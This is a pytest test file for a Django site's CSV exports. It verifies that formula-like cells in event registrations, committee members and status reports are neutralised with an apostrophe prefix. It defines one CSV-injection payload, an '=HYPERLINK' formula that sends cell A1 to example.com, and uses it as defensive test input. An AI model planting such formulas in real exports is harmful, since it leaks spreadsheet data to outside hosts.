"""Every CSV the site writes comes from moessingen_site/exports.py: UTF-8 with BOM,
semicolons, and a visitor's "=HYPERLINK(…)" stays text in the office's spreadsheet."""

import csv
import io

import pytest
from django.contrib.auth.models import Group

from committee.factories import PersonFactory
from concept.factories import MeasurePageFactory, StatusReportFactory
from events.factories import EventIndexPageFactory, EventPageFactory, RegistrationFactory
from moessingen_site.exports import cell, csv_bytes
from moessingen_site.roles import REDAKTION

ATTACK = '=HYPERLINK("https://example.com/?x="&A1;"Klick")'


def test_formula_cells_become_text():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert cell(start + "1") == "'" + start + "1"
    assert cell("Ada") == "Ada" and cell(None) == "" and cell(3) == "3"


def test_csv_bytes_has_bom_and_semicolons():
    content = csv_bytes(["Name", "Wert"], [[ATTACK, "ä"]])
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Name", "Wert"], ["'" + ATTACK, "ä"]]


@pytest.fixture
def staff(client, django_user_model):
    user = django_user_model.objects.create_user(username="redaktion", password="x" * 12)
    user.groups.add(Group.objects.get(name=REDAKTION))
    client.force_login(user)
    return client


def read_export(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.django_db
def test_registration_export_is_formula_safe(staff, home_page):
    event = EventPageFactory(parent=EventIndexPageFactory(parent=home_page), registration_enabled=True)
    RegistrationFactory(event=event, name=ATTACK, email="ada@example.org", note="-1+1")
    rows = read_export(staff.get("/admin/registrations/", {"export": "csv"}))
    assert rows[1][1] == "'" + ATTACK and rows[1][5] == "'-1+1"


@pytest.mark.django_db
def test_people_export_is_formula_safe(staff, home_page):
    PersonFactory(name=ATTACK, function="@SUM(1)")
    rows = read_export(staff.get("/admin/snippets/committee/person/", {"export": "csv"}))
    assert ["'" + ATTACK, "'@SUM(1)"] == rows[1][:2]


@pytest.mark.django_db
def test_status_report_export_is_formula_safe(staff, home_page):
    StatusReportFactory(measure=MeasurePageFactory(parent=home_page), note=ATTACK, decision="+49 7473")
    rows = read_export(staff.get("/admin/snippets/concept/statusreport/", {"export": "csv"}))
    assert "'" + ATTACK in rows[1] and "'+49 7473" in rows[1]
